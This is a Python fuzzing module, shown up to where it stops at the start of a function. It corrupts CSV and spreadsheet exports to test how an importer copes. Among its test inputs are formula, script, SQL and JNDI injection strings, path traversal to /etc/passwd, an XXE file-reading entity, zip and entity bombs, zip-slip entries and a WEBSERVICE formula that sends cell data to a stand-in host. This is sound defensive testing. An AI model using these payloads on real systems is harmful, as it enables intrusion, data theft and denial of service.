"""Ways to spoil a valid file: each has a name, and with seed and family it can be repeated.

A mutation gives what is to be dropped into the inbox: names (bytes, so that a name may be
anything a disk allows) and what lies under them, bytes or an act such as making a pipe.
"""

from __future__ import annotations

import gzip
import io
import os
import random
import re
import socket
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from types import MappingProxyType

from .exports import Export, Grid, as_xls, as_xlsx

Act = Callable[[Path], None]
Drop = list[tuple[str | bytes, bytes | Act]]
Spoil = Callable[[Export, random.Random], Drop]
_ALL: dict[str, Spoil] = {}
#: Mutations that change what cells say, and neither how many rows there are nor which columns.
KEEP_ROWS: set[str] = set()
#: Dear ones: they run in ``make soak`` only.
DEAR: set[str] = set()
#: Mutations of the file's own kind only: "" any, "text", "book".
NEEDS: dict[str, str] = {}


def mutation(
    needs: str = "", keeps_rows: bool = False, dear: bool = False
) -> Callable[[Callable[..., object]], Callable[..., object]]:
    """Enter a mutation; one that gives bytes drops them under the file's own name."""

    def enter(spoil: Callable[..., object]) -> Callable[..., object]:
        def dropped(export: Export, rng: random.Random) -> Drop:
            found = spoil(export, rng)
            return [(export.name, found)] if isinstance(found, bytes) else found  # type: ignore

        name = spoil.__name__
        _ALL[name] = dropped
        NEEDS[name] = needs
        if keeps_rows:
            KEEP_ROWS.add(name)
        if dear:
            DEAR.add(name)
        return spoil

    return enter


# Bytes


@mutation()
def cut_anywhere(e: Export, rng: random.Random) -> bytes:
    data = e.data()
    return data[: rng.randrange(1, len(data))]


@mutation()
def cut_near_the_end(e: Export, rng: random.Random) -> bytes:
    data = e.data()
    return data[: -rng.randrange(1, min(60, len(data)))]


@mutation()
def cut_within_a_character(e: Export, rng: random.Random) -> bytes:
    """The last byte kept is the first of a sign of three bytes."""
    grid = [row[:] for row in e.grid]
    grid[-1][-1] = "仓"
    if e.is_book:
        return e.data(grid)[:-1]
    return e.text(grid).encode().rstrip(b"\r\n\t,")[:-2]


@mutation()
def head_missing(e: Export, rng: random.Random) -> bytes:
    data = e.data()
    return data[rng.randrange(1, len(data) // 2) :]


@mutation()
def bytes_flipped(e: Export, rng: random.Random) -> bytes:
    data = bytearray(e.data())
    for _ in range(rng.randrange(1, 24)):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return bytes(data)


@mutation()
def bytes_zeroed(e: Export, rng: random.Random) -> bytes:
    data = bytearray(e.data())
    at = rng.randrange(len(data))
    data[at : at + 512] = b"\0" * len(data[at : at + 512])
    return bytes(data)


@mutation()
def bytes_put_in(e: Export, rng: random.Random) -> bytes:
    data = e.data()
    at = rng.randrange(len(data))
    return data[:at] + rng.randbytes(rng.randrange(1, 300)) + data[at:]


@mutation()
def blocks_shuffled(e: Export, rng: random.Random) -> bytes:
    data = e.data()
    blocks = [data[at : at + 97] for at in range(0, len(data), 97)]
    rng.shuffle(blocks)
    return b"".join(blocks)


@mutation()
def file_twice_in_one(e: Export, rng: random.Random) -> bytes:
    return e.data() * 2


@mutation()
def noise(e: Export, rng: random.Random) -> bytes:
    return rng.randbytes(5000)


@mutation()
def nothing(e: Export, rng: random.Random) -> bytes:
    return b""


@mutation()
def only_a_mark(e: Export, rng: random.Random) -> bytes:
    return rng.choice([b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\0\0\0", b"\n" * 99, b" \t\r"])


@mutation()
def packed(e: Export, rng: random.Random) -> bytes:
    return gzip.compress(e.data())


@mutation()
def null_bytes(e: Export, rng: random.Random) -> bytes:
    data = bytearray(e.text().encode())
    for _ in range(rng.randrange(1, 40)):
        data.insert(rng.randrange(len(data)), 0)
    return bytes(data)


@mutation()
def called_a_workbook(e: Export, rng: random.Random) -> Drop:
    return [(rng.choice(["a.xlsx", "a.xls", "a.parquet", "a.pdf", "a"]), e.text().encode())]


@mutation()
def called_a_text(e: Export, rng: random.Random) -> Drop:
    return [(rng.choice(["a.csv", "a.txt", "a.TSV"]), as_xlsx(e.grid))]


# Encodings


@mutation("text", keeps_rows=True)
def utf_16(e: Export, rng: random.Random) -> bytes:
    text = e.text()
    return rng.choice(
        [text.encode("utf-16"), text.encode("utf-16-le"), text.encode("utf-16-be"),
         b"\xfe\xff" + text.encode("utf-16-be")]
    )  # fmt: skip


@mutation("text")
def utf_16_cut(e: Export, rng: random.Random) -> bytes:
    data = e.text().encode("utf-16")
    return data[: rng.randrange(len(data) // 2, len(data)) | 1]


@mutation("text")
def utf_32(e: Export, rng: random.Random) -> bytes:
    return e.text().encode("utf-32")


@mutation("text")
def another_code_page(e: Export, rng: random.Random) -> bytes:
    code = rng.choice(["gb18030", "cp932", "cp1252", "big5", "cp874", "koi8-r", "cp037"])
    grid = [*e.grid, ["合计？é"]]
    return e.text(grid).encode(code, "replace")


@mutation("text", keeps_rows=True)
def marked_utf_8(e: Export, rng: random.Random) -> bytes:
    return b"\xef\xbb\xbf" * rng.choice([1, 2]) + e.text().encode()


@mutation("text")
def encodings_mixed(e: Export, rng: random.Random) -> bytes:
    lines = [e.text([[*row[:-1], row[-1] + "é中文"] if row else row]) for row in e.grid]
    return b"".join(line.encode(rng.choice(["utf-8", "gb18030", "utf-16-le"])) for line in lines)


@mutation("text")
def odd_signs(e: Export, rng: random.Random) -> bytes:
    signs = [b"\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x1a", b"\x0c", b"\x1c",
             "\u2028".encode(), "\u0085".encode(), "\u202e".encode(), b"\x08\x1b[31m"]  # fmt: skip
    data = e.text().encode()
    for sign in signs:
        at = rng.randrange(len(data))
        data = data[:at] + sign + data[at:]
    return data


# Lines


@mutation("text", keeps_rows=True)
def other_line_ends(e: Export, rng: random.Random) -> bytes:
    return e.text().replace("\r\n", rng.choice(["\n", "\r"])).encode()


@mutation("text")
def line_ends_mixed(e: Export, rng: random.Random) -> bytes:
    lines = e.text().split("\r\n")
    return "".join(line + rng.choice(["\n", "\r", "\r\n", "\n\r", "\r\r\n"]) for line in lines
                   ).encode()  # fmt: skip


@mutation("text", keeps_rows=True)
def blank_lines(e: Export, rng: random.Random) -> bytes:
    lines = e.text().split("\r\n")
    head = len(e.above) + 1
    return "\r\n".join(
        line if at < head else line + "\r\n" * rng.randrange(4) for at, line in enumerate(lines)
    ).encode()


@mutation("text", keeps_rows=True)
def a_million_blank_lines(e: Export, rng: random.Random) -> bytes:
    return (e.text() + "\n" * 1_000_000).encode()


@mutation("text")
def a_million_blank_lines_within(e: Export, rng: random.Random) -> bytes:
    return (e.text() + "\n" * 1_000_000 + e.text(e.rows)).encode()


@mutation()
def lines_shuffled(e: Export, rng: random.Random) -> bytes:
    grid = e.grid
    rng.shuffle(grid)
    return e.data(grid)


@mutation(keeps_rows=True)
def rows_shuffled(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(rows=rng.sample(e.rows, len(e.rows)))


@mutation()
def rows_doubled(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(rows=[row for row in e.rows for _ in range(2)])


@mutation()
def header_repeated(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(rows=[one for row in e.rows for one in (row, e.headers)])


@mutation()
def header_alone(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(rows=[])


@mutation()
def header_missing(e: Export, rng: random.Random) -> bytes:
    return e.data([*e.above, *e.rows])


@mutation()
def header_last(e: Export, rng: random.Random) -> bytes:
    return e.data([*e.above, *e.rows, e.headers])


@mutation()
def long_preamble(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(above=[["A remark", "of no use"]] * rng.choice([5, 38, 39, 40, 41, 200]))


@mutation()
def total_rows(e: Export, rng: random.Random) -> bytes:
    width = len(e.headers)
    total = [[word] + [""] * (width - 2) + ["9"] for word in ("Total", "合计", "รวม", "total: 9")]
    return e.with_rows(rows=[*e.rows, *total])


@mutation()
def rows_too_long(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(
        rows=[row + ["x"] * rng.choice([0, 1, 2, 300]) if row else row for row in e.rows]
    )


@mutation()
def rows_too_short(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(rows=[row[: rng.randrange(len(row) + 1)] for row in e.rows])


@mutation()
def rows_shifted(e: Export, rng: random.Random) -> bytes:
    """An unquoted separator in a name moves all that follows by one."""
    return e.with_rows(
        rows=[[*row[:at], "shifted", *row[at:]] for row in e.rows
              for at in [rng.randrange(len(row) or 1)]]
    )  # fmt: skip


@mutation("text")
def one_long_line(e: Export, rng: random.Random) -> bytes:
    return (e.text() + "a" * 10_000_000 + "\r\n" + e.text(e.rows)).encode()


@mutation("text")
def a_million_separators(e: Export, rng: random.Random) -> bytes:
    return (e.text() + e.delimiter * 1_000_000 + "\r\n").encode()


@mutation("text")
def a_million_separators_first(e: Export, rng: random.Random) -> bytes:
    return (e.delimiter * 1_000_000 + "\r\n" + e.text()).encode()


# Separators and quotes


@mutation("text")
def another_separator(e: Export, rng: random.Random) -> bytes:
    return e.text(delimiter=rng.choice([mark for mark in ",;\t|" if mark != e.delimiter])).encode()


@mutation("text")
def separators_mixed(e: Export, rng: random.Random) -> bytes:
    return "".join(e.text([row], rng.choice(",;\t|")) for row in e.grid).encode()


@mutation("text")
def strange_separator(e: Export, rng: random.Random) -> bytes:
    return e.text(delimiter=rng.choice("^~:\x1f¦")).encode()


@mutation("text")
def quote_left_open(e: Export, rng: random.Random) -> bytes:
    rows = [row[:] for row in e.rows]
    row = rng.choice(rows)
    text = e.text([*e.above, e.headers])
    mark = f"\x00{rng.randrange(9)}"
    row[rng.randrange(len(row))] = mark
    return text.encode() + e.text(rows).replace(mark, '"left open').encode()


@mutation("text")
def quotes_anywhere(e: Export, rng: random.Random) -> bytes:
    text = list(e.text())
    for _ in range(rng.randrange(1, 20)):
        text.insert(rng.randrange(len(text)), rng.choice(['"', '""', '\\"', "'", "“"]))
    return "".join(text).encode()


@mutation("text", keeps_rows=True)
def everything_quoted(e: Export, rng: random.Random) -> bytes:
    mark = e.delimiter
    if mark == "\t":
        return e.text().encode()
    return "\r\n".join(
        mark.join('"' + cell.replace('"', '""') + '"' for cell in row) for row in e.grid
    ).encode()


# Columns


def _without(grid: Grid, at: int) -> Grid:
    return [row[:at] + row[at + 1 :] for row in grid]


@mutation()
def column_removed(e: Export, rng: random.Random) -> bytes:
    at = rng.randrange(len(e.headers))
    return e.data([*e.above, *_without([e.headers, *e.rows], at)])


@mutation()
def header_cell_removed(e: Export, rng: random.Random) -> bytes:
    at = rng.randrange(len(e.headers))
    return e.with_rows(headers=e.headers[:at] + e.headers[at + 1 :])


@mutation()
def columns_renamed(e: Export, rng: random.Random) -> bytes:
    headers = e.headers[:]
    for at in rng.sample(range(len(headers)), min(3, len(headers))):
        headers[at] = rng.choice([headers[at][:-1], headers[at] + "s", "", "\u200b" + headers[at],
                                  headers[at].upper(), f" {headers[at]}\n(new)", "=1"])  # fmt: skip
    return e.with_rows(headers=headers)


@mutation()
def column_doubled(e: Export, rng: random.Random) -> bytes:
    at = rng.randrange(len(e.headers))
    grid = [e.headers, *e.rows]
    return e.data([*e.above, *([*row, row[at]] for row in grid)])


@mutation()
def all_columns_doubled(e: Export, rng: random.Random) -> bytes:
    return e.data([*e.above, *(row * 2 for row in [e.headers, *e.rows])])


@mutation(keeps_rows=True)
def columns_shuffled(e: Export, rng: random.Random) -> bytes:
    order = rng.sample(range(len(e.headers)), len(e.headers))
    grid = [e.headers, *(row + [""] * len(order) for row in e.rows)]
    return e.data([*e.above, *([row[at] for at in order] for row in grid)])


@mutation()
def headers_swapped(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(headers=rng.sample(e.headers, len(e.headers)))


@mutation("text", keeps_rows=True)
def a_thousand_columns(e: Export, rng: random.Random) -> bytes:
    more = [f"column {at}" for at in range(1000)]
    width = len(e.headers)
    return e.data(
        [*e.above, e.headers + more,
         *((row + [""] * width)[:width] + ["1"] * 1000 for row in e.rows)]
    )  # fmt: skip


@mutation("text")
def a_thousand_columns_of_one_name(e: Export, rng: random.Random) -> bytes:
    name = rng.choice(e.headers)
    return e.data([*e.above, e.headers + [name] * 1000, *(row + ["1"] * 1000 for row in e.rows)])


@mutation("text")
def forty_thousand_columns(e: Export, rng: random.Random) -> bytes:
    more = [str(at) for at in range(40_000)]
    return e.data([*e.above, e.headers + more, *(row + more for row in e.rows[:3])])


@mutation("text", keeps_rows=True)
def a_header_of_a_megabyte(e: Export, rng: random.Random) -> bytes:
    return e.with_rows(headers=[*e.headers, "h" * 200_000])


@mutation(keeps_rows=True)
def hostile_headers(e: Export, rng: random.Random) -> bytes:
    more = ["<script>alert(1)</script>", '=cmd|"/c calc"!A1', '"; DROP TABLE x; --', "${jndi:x}",
            "{{7*7}}", "%s%n", "\u202eevil", "../../etc/passwd", "a\nb"]  # fmt: skip
    width = len(e.headers)
    rows = [(row + [""] * width)[:width] + ["1"] * len(more) if row else row for row in e.rows]
    return e.with_rows(headers=e.headers + more, rows=rows)


# Cells

_DAY = re.compile(r"\d{1,4}[-/.]\d{1,2}[-/.]\d{1,4}([ T]\d.*)?")
_NUMBER = re.compile(r"[^\w\s]{0,2}\d[\d.,]*\s?%?")
_WORDS: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "units": ("{} pcs", "{} 件", "ca. {}", "{}kg", "USD {}", "{} 元", "${}", "{}%", "'{}"),
        "words": ("twelve", "十二", "n/a", "-", "—", "NULL", "#REF!", "#DIV/0!", "None", "TRUE"),
        "huge": ("1e30", "9" * 18, "9" * 40, "9" * 5000, "-" + "9" * 18, "1e308", "999999999999",
                 "922337203685477580", "9223372036854775807", "99999999999999.9999", "1e11"),
        "odd": ("NaN", "nan", "inf", "-Infinity", "1e400", "-1e-400", "0x1F", "1_000", "١٢٣",
                "１２．５", "1.2.3", "1,2,3", "--5", "5-", "(5)", "+", ".", ",", "1/2", "½", "²"),
        "negative": ("-1", "-0", "-3.50", "−7", "(12)", "-999999"),
        "doubtful": ("1,234", "1.234", "12.345,6", "1,23", "1 234,50", "1'234.50"),
    }
)  # fmt: skip
_DAYS: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "impossible": ("0000-00-00", "2025-02-31", "31/02/2025", "2025-13-45", "00/00/0000",
                       "2025-10-06 25:61:61", "99/99/9999", "2025-10-06T10:00:00+99:99"),
        "far": ("0001-01-01", "9999-12-31", "1900-01-01", "2262-04-12", "294247-01-10",
                "5877642-06-25", "0044-03-15 (BC)", "-4713-11-24", "1899-12-30"),
        "words": ("infinity", "-infinity", "epoch", "today", "now", "tomorrow", "allballs",
                  "yesterday", "Oct", "next week", "2025-W41", "NaT"),
        "others": ("1759708800", "45936", "45936.5", "20251006", "06.10.25", "6 Oct 2025",
                   "Oct 6, 2025 7:03:01 PM PDT", "2025年10月6日", "๖/๑๐/๒๕๖๘", "06/10/2568"),
        "mixed": ("05/06/2025", "13/06/2025", "06/13/2025", "2025/6/5", "5-6-25"),
        "zones": ("2025-10-26 02:30:00", "2025-11-02 01:30:00", "2025-10-06 10:00:00 PST",
                  "2025-10-06T10:00:00Z", "2025-10-06 10:00:00 Europe/Berlin",
                  "2025-10-06 23:59:60", "2025-10-06 24:00:00"),
    }
)  # fmt: skip


def _cells(e: Export, rng: random.Random, test: Callable[[str], object],
           words: tuple[str, ...]) -> bytes:  # fmt: skip
    """Write other words into some or all cells that pass a test."""
    share = rng.choice([0.05, 0.3, 1.0])
    rows = [
        [
            rng.choice(words).replace("{}", cell) if test(cell) and rng.random() < share else cell
            for cell in row
        ]
        for row in e.rows
    ]
    return e.with_rows(rows=rows)


def _enter_cells() -> None:
    def enter(name: str, test: Callable[[str], object], words: tuple[str, ...]) -> None:
        def spoil(e: Export, rng: random.Random) -> bytes:
            return _cells(e, rng, test, words)

        spoil.__name__ = name
        # A word may make of a row what is no data: an empty one, a total; or of one row two,
        # where a file never quotes.
        mutation(keeps_rows=name not in ("texts_total", "texts_broken"))(spoil)

    for kind, words in _WORDS.items():
        enter(f"numbers_{kind}", _NUMBER.fullmatch, words)
    for kind, words in _DAYS.items():
        enter(f"days_{kind}", _DAY.fullmatch, words)
    texts = {
        "hostile": ("=1+1", '=cmd|"/c calc"!A1', "<img src=x onerror=alert(1)>", "'; DROP TABLE x",
                    "@SUM(A1)", "+49", "-x", "{{7*7}}", "#set page()", "$x^2$", "*b* _i_ [l](x)",
                    "- item: &a [*a]", "!!python/object:x", "\\input{x}", "%00", "\u202etxt"),
        "long": ("x" * 30_000, "长" * 10_000, "e\u0301" * 9_000, " " * 20_000 + "x"),
        "broken": ("two\nlines", "carriage\rreturn", 'quo"te', "back\\slash", "\ufeffmark",
                   "zero\u200bwidth", "👩‍👩‍👧", "\x01\x02\x7f", "\u2028", "tab\there", "\u00a0"),
        "total": ("Total", "合计", "Grand Total:", "รวม"),
    }  # fmt: skip
    for kind, words in texts.items():
        enter(f"texts_{kind}", lambda cell: cell and not re.match(r"[\d$-]", cell), words)
    ids = ("1.23457E+17", '="0123"', "'0123", "123.0", "1e5", "0" * 40, "9" * 18, "..", "a/b",
           "A" * 9_000)  # fmt: skip
    enter("ids_odd", lambda cell: re.fullmatch(r"[A-Z]{1,4}-\d+|\d{6,}", cell), ids)
    enter("anything_empty", lambda cell: cell, ("", "", " ", "\u3000", "\t"))
    KEEP_ROWS.discard("anything_empty")


_enter_cells()


@mutation(keeps_rows=True)
def one_id_for_all(e: Export, rng: random.Random) -> bytes:
    width = len(e.headers)
    rows = [row[:] for row in e.rows]
    for at in rng.sample(range(width), max(1, width // 3)):
        for row in rows:
            if at < len(row):
                row[at] = rows[0][at] if at < len(rows[0]) else ""
    return e.with_rows(rows=rows)


@mutation("text")
def a_cell_of_ten_megabytes(e: Export, rng: random.Random) -> bytes:
    rows = [row[:] for row in e.rows]
    row = rng.choice([one for one in rows if one] or [[""]])
    row[rng.randrange(len(row))] = "z" * 10_000_000
    return e.with_rows(rows=rows)


@mutation("text")
def a_cell_of_twenty_megabytes(e: Export, rng: random.Random) -> bytes:
    rows = [row[:] for row in e.rows]
    row = rng.choice([one for one in rows if one] or [[""]])
    row[rng.randrange(len(row))] = "zz " * 7_000_000
    return e.with_rows(rows=rows)


# Workbooks

_SHEET = "xl/worksheets/sheet1.xml"
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _parts(e: Export) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(as_xlsx(e.grid))) as archive:
        return {one: archive.read(one) for one in archive.namelist()}


def _zipped(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return out.getvalue()


def _book(data: bytes) -> Drop:
    return [("book.xlsx", data)]


def _sheet(e: Export, change: Callable[[bytes], bytes], part: str = _SHEET) -> Drop:
    parts = _parts(e)
    parts[part] = change(parts.get(part, b""))
    return _book(_zipped(parts))


def _rows_xml(rows: list[str], before: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}<worksheet {_NS}><sheetData>'
        + "".join(rows)
        + "</sheetData></worksheet>"
    ).encode()


def _text_cell(at: str, text: str) -> str:
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def _inline(grid: Grid) -> list[str]:
    from openpyxl.utils import get_column_letter

    return [
        f'<row r="{line}">'
        + "".join(
            _text_cell(f"{get_column_letter(at)}{line}", cell) for at, cell in enumerate(row, 1)
        )
        + "</row>"
        for line, row in enumerate(grid, 1)
    ]


@mutation(dear=True)
def bomb_in_the_sheet(e: Export, rng: random.Random) -> Drop:
    """Two gigabytes of blanks in two megabytes."""
    return _bomb(e, _SHEET, b" " * (1 << 20), 2048)


@mutation(dear=True)
def bomb_of_strings(e: Export, rng: random.Random) -> Drop:
    return _bomb(e, "xl/sharedStrings.xml", b"<si><t>" + b"A" * 1000 + b"</t></si>", 900_000)


@mutation()
def bomb_of_cells(e: Export, rng: random.Random) -> Drop:
    """Cells that do not say where they stand, on rows that do not either."""
    return _bomb(e, _SHEET, b"<row>" + b"<c><v>1</v></c>" * 1000 + b"</row>", 6000)


@mutation()
def bomb_of_rows(e: Export, rng: random.Random) -> Drop:
    return _bomb(e, _SHEET, b'<row><c t="b"><v>1</v></c></row>' * 1000, 1000)


def _bomb(e: Export, part: str, chunk: bytes, times: int) -> Drop:
    parts = _parts(e)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            if name != part:
                archive.writestr(name, data)
        with archive.open(part, "w", force_zip64=True) as file:
            start, mark, end = (parts.get(part) or b"<sst>").rpartition(b"</sheetData>")
            file.write(start if mark else f"<sst {_NS}>".encode())
            for _ in range(times):
                file.write(chunk)
            file.write(mark + end if mark else b"</sst>")
    return _book(out.getvalue())


@mutation()
def sizes_that_lie(e: Export, rng: random.Random) -> Drop:
    """The archive says that each part is 10 bytes long; one unpacks to 64 MiB."""
    data = bytearray(_bomb(e, _SHEET, b" " * (1 << 20), 64)[0][1])  # type: ignore[arg-type]
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", 10)
        at += 4
    return _book(bytes(data))


@mutation()
def nested_archives(e: Export, rng: random.Random) -> Drop:
    inner = b"\0" * (8 << 20)
    for level in range(6):
        inner = _zipped({f"xl/{level}.zip": inner})
    return _book(_zipped({**_parts(e), "xl/embeddings/inner.zip": inner}))


@mutation()
def overlapping_parts(e: Export, rng: random.Random) -> Drop:
    """Many entries of the directory that share one packed part."""
    data = _zipped(_parts(e))
    start = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    directory = data[start:end]
    count = struct.unpack("<H", data[end + 10 : end + 12])[0]
    times = 60_000 // count
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", count * times, count * times)
    tail[12:16] = struct.pack("<I", len(directory) * times)
    return _book(data[:start] + directory * times + bytes(tail))


@mutation()
def twenty_thousand_parts(e: Export, rng: random.Random) -> Drop:
    return _book(_zipped({**_parts(e), **{f"xl/media/{at}.png": b"" for at in range(20_000)}}))


@mutation()
def five_hundred_sheets(e: Export, rng: random.Random) -> Drop:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(e.grid)))
    for at in range(500):
        book.create_sheet(f"S{at}")["A1"] = "x"
    return _saved(book)


@mutation()
def a_part_that_points_out(e: Export, rng: random.Random) -> Drop:
    parts = _parts(e) | {"../../../evil.txt": b"evil", "/tmp/evil.txt": b"evil",
                         "xl/..\\..\\evil.txt": b"evil"}  # fmt: skip
    rels = "xl/_rels/workbook.xml.rels"
    if rng.random() < 0.5:
        parts[rels] = re.sub(rb'Target="[^"]*sheet1.xml"',
                             b'Target="../../../../../../etc/passwd"', parts[rels])  # fmt: skip
    return _book(_zipped(parts))


@mutation()
def a_part_missing(e: Export, rng: random.Random) -> Drop:
    parts = _parts(e)
    del parts[rng.choice(sorted(parts))]
    return _book(_zipped(parts))


@mutation()
def a_part_cut(e: Export, rng: random.Random) -> Drop:
    """The archive is whole; the XML inside is not."""
    parts = _parts(e)
    name = rng.choice(sorted(parts))
    parts[name] = parts[name][: rng.randrange(len(parts[name]))]
    return _book(_zipped(parts))


@mutation()
def a_part_flipped(e: Export, rng: random.Random) -> Drop:
    parts = _parts(e)
    for name in rng.sample(sorted(parts), 2):
        data = bytearray(parts[name])
        for _ in range(rng.randrange(1, 9)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        parts[name] = bytes(data)
    return _book(_zipped(parts))


@mutation()
def billion_laughs(e: Export, rng: random.Random) -> Drop:
    ha = "".join(f'<!ENTITY h{n} "{f"&h{n - 1};" * 10}">' for n in range(1, 12))
    dtd = f'<!DOCTYPE x [<!ENTITY h0 "ha">{ha}]>'
    rows = _inline(e.grid)
    rows.append('<row><c t="inlineStr"><is><t>&h11;</t></is></c></row>')
    return _sheet(e, lambda _: _rows_xml(rows, dtd))


@mutation()
def an_entity_that_reads_files(e: Export, rng: random.Random) -> Drop:
    dtd = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    grid = [row[:] for row in e.grid]
    rows = [one.replace("Sample", "&f;") for one in _inline(grid)]
    return _sheet(e, lambda _: _rows_xml(rows, dtd))


@mutation()
def stale_dimension(e: Export, rng: random.Random) -> Drop:
    size = rng.choice(["A1", "A1:B2", "A1:XFD1048576", "ZZZZ9:A1", "A0:A0", "", "A1:A99999999999"])
    return _sheet(
        e, lambda xml: xml.replace(b"<sheetData", f'<dimension ref="{size}"/><sheetData'.encode())
    )


@mutation()
def stray_cell(e: Export, rng: random.Random) -> Drop:
    at = rng.choice(["XFD1048576", "XFD2", "A1048576", "ZZZ9999999", "ZZZZZZZ1", "A99999999999",
                     "A4294967297", "A0", "1A", "", "ÄÖ5"])  # fmt: skip
    rows = [*_inline(e.grid), f'<row r="1048576"><c r="{at}"><v>1</v></c></row>']
    return _sheet(e, lambda _: _rows_xml(rows))


@mutation()
def row_number_out_of_range(e: Export, rng: random.Random) -> Drop:
    number = rng.choice(["4294967295", "4294967296", "1048576", "0", "-1", "x", "1e9", "16777216"])
    return _sheet(
        e, lambda _: _rows_xml([*_inline(e.grid), f'<row r="{number}"><c><v>1</v></c></row>'])
    )


@mutation()
def far_corner_of_short_cells(e: Export, rng: random.Random) -> Drop:
    """A row that says it is the last one, with cells that do not say where they stand."""
    row = '<row r="1048000">' + "<c><v>1</v></c>" * 300 + "</row>"
    return _sheet(e, lambda _: _rows_xml([*_inline(e.grid), row]))


@mutation()
def a_million_blank_rows(e: Export, rng: random.Random) -> Drop:
    blank = "".join(f'<row r="{at}"/>' for at in range(50, 1_000_000))
    return _sheet(e, lambda _: _rows_xml([*_inline(e.grid), blank]))


@mutation()
def a_million_styled_blank_rows(e: Export, rng: random.Random) -> Drop:
    """What remains where somebody coloured whole columns: cells without a value."""
    at = len(e.grid) + 1
    blank = "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(at, at + 400_000))
    return _sheet(e, lambda _: _rows_xml([*_inline(e.grid), blank]))


@mutation()
def formula_cells(e: Export, rng: random.Random) -> Drop:
    from openpyxl.utils import get_column_letter

    rows = []
    for line, row in enumerate(e.grid, 1):
        cells = []
        for at, cell in enumerate(row, 1):
            where = f"{get_column_letter(at)}{line}"
            value = rng.choice(["", f"<v>{rng.randrange(99)}</v>", "<v>#REF!</v>", "<v></v>"])
            formula = f'<c r="{where}"><f>WEBSERVICE("http://x/"&amp;A1)</f>{value}</c>'
            chosen = line > len(e.above) + 1 and rng.random() < 0.3
            cells.append(formula if chosen else _text_cell(where, cell))
        rows.append(f'<row r="{line}">{"".join(cells)}</row>')
    return _sheet(e, lambda _: _rows_xml(rows))


@mutation()
def merged_cells(e: Export, rng: random.Random) -> Drop:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(e.grid)))
    sheet = book.worksheets[0]
    for _ in range(4):
        row, column = rng.randrange(1, 9), rng.randrange(1, 6)
        sheet.merge_cells(start_row=row, start_column=column, end_row=row + 1,
                          end_column=column + 1)  # fmt: skip
    return _saved(book)


@mutation()
def hidden_sheets(e: Export, rng: random.Random) -> Drop:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(e.grid)))
    hidden = book.create_sheet("=HIDDEN()", 0)
    for row in e.grid[: rng.randrange(1, len(e.grid))]:
        hidden.append(row)
    hidden.sheet_state = rng.choice(["hidden", "veryHidden"])
    book.active = 1
    return _saved(book)


@mutation()
def links_comments_and_properties(e: Export, rng: random.Random) -> Drop:
    import openpyxl
    from openpyxl.comments import Comment

    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(e.grid)))
    sheet = book.worksheets[0]
    sheet["A1"].hyperlink = "file:///etc/passwd"
    sheet["A2"].comment = Comment("x" * 3000, "somebody")
    book.properties.creator = "=1+1"
    drops = _saved(book)
    with zipfile.ZipFile(io.BytesIO(drops[0][1])) as archive:  # type: ignore[arg-type]
        parts = {one: archive.read(one) for one in archive.namelist()}
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink {_NS}><externalBook r:id="x"/></externalLink>'.encode()
    )
    return _book(_zipped(parts))


@mutation()
def typed_cells(e: Export, rng: random.Random) -> Drop:
    """Numbers, dates, moments and errors as a spreadsheet keeps them, in the wrong places too."""
    from datetime import date, datetime, time, timedelta

    import openpyxl

    odd = [1e300, 1.5, 7, True, datetime(2025, 10, 6, 12), date(1900, 1, 1), time(12), "#N/A",
           timedelta(days=999_999), datetime(9999, 12, 31), -5, 0.1 + 0.2, 45936]  # fmt: skip
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(e.grid)))
    if rng.random() < 0.3:
        from openpyxl.utils.datetime import CALENDAR_MAC_1904

        book.epoch = CALENDAR_MAC_1904
    for row in book.worksheets[0].iter_rows(min_row=len(e.above) + 2):
        for cell in row:
            if rng.random() < 0.3:
                cell.value = rng.choice(odd)
    return _saved(book)


@mutation()
def cell_errors(e: Export, rng: random.Random) -> Drop:
    kinds = ['t="e"><v>#REF!', 't="s"><v>4000000000', 't="s"><v>-1', 't="s"><v>x', 't="d"><v>2025',
             't="n"><v>1e999', 't="n"><v>abc', 't="b"><v>7', 't="zz"><v>1', 's="99999"><v>5',
             't="d"><v>99999-99-99', 't="s"><v>', 't="n"><v>NaN']  # fmt: skip
    row = "".join(f"<c {rng.choice(kinds)}</v></c>" for _ in range(rng.randrange(1, 6)))
    return _sheet(e, lambda _: _rows_xml([*_inline(e.grid), f"<row>{row}</row>"]))


@mutation()
def deep_xml(e: Export, rng: random.Random) -> Drop:
